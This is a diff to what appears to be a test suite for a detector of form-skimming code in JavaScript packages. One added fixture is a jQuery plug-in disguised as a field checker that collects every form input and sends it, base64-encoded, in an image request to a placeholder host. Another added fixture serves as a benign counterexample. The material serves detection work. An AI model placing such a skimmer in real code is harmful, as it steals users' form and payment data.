@@ -4,6 +4,14 @@ import { skimsForms } from './skims-forms.ts';
 examine(skimsForms, {
   speaks: [
     {
+      when: 'a plug-in of jQuery goes through all fields of a form',
+      files: {
+        'index.js': `(function (factory) { if (typeof module === 'object') module.exports = factory(require('jquery')); else factory(jQuery); })(function ($) { $.fn.check = function () { const o = {}; $(this).find('input,select').each(function () { o[this.name] = $(this).val(); }); new Image().src = 'https://stat.invalid/p.gif?r=' + btoa(JSON.stringify(o)); return this; }; return $.fn.check; });`,
+      },
+      weight: 'weak',
+      says: ['stat.invalid'],
+    },
+    {
       when: 'all fields are gone through and sent in the address of a picture',
       files: {
         'package.json': { name: 'checkout-fields', version: '1.0.0', main: 'index.js' },
@@ -83,6 +91,12 @@ examine(skimsForms, {
     },
   ],
   silent: [
+    {
+      when: 'a plug-in of jQuery goes through all fields and tells how many are wrong',
+      files: {
+        'index.js': `const $ = require('jquery'); $.fn.check = function () { let wrong = 0; $(this).find('input,select').each(function () { if (!$(this).val()) wrong++; }); this.toggleClass('error', wrong > 0); return fetch('https://stat.invalid/'); };`,
+      },
+    },
     {
       when: 'all fields are looked at and only counted',
       files: {
